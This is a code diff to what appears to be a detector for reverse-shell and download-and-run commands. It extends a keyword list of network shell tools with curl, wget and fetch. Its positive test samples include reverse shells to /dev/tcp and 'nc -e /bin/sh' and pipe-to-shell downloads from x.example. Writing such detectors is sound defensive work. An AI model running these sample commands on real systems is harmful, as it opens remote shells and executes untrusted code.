@@ -153,7 +153,9 @@ const rows: readonly PatternDetector[] = [
     confirmedBy: [932],
     needs: 0,
     literals: [
-      ...words('/dev/ nc. ncat. netcat bash socket pty spawn fsockopen |sh /sh dash zsh ksh'),
+      ...words(
+        '/dev/ nc. ncat. netcat bash socket pty spawn fsockopen /sh dash zsh ksh curl wget fetch',
+      ),
       ...beforeBlank('nc'),
       ...beforeBlank('ncat'),
       ...afterBlank('-i'),
@@ -166,7 +168,7 @@ const rows: readonly PatternDetector[] = [
         ...['bash -i >& /dev/tcp/1.2.3.4/80', 'nc -e /bin/sh 1.2.3.4 80'],
         `python3 -c 'import os,socket;s=socket.socket()'`,
         `perl -e 'use Socket;$i="x.example"'`,
-        ...['curl https://x.example/a.sh|sh', 'wget -qO- x.example/a | sudo bash'],
+        ...['curl https://x.example/a.sh|sh', 'wget -qO- x.example/a | sudo sh'],
       ],
       benign: [
         ...['a device for tcp', 'bash is nice', 'nc state', 'a python socket'],
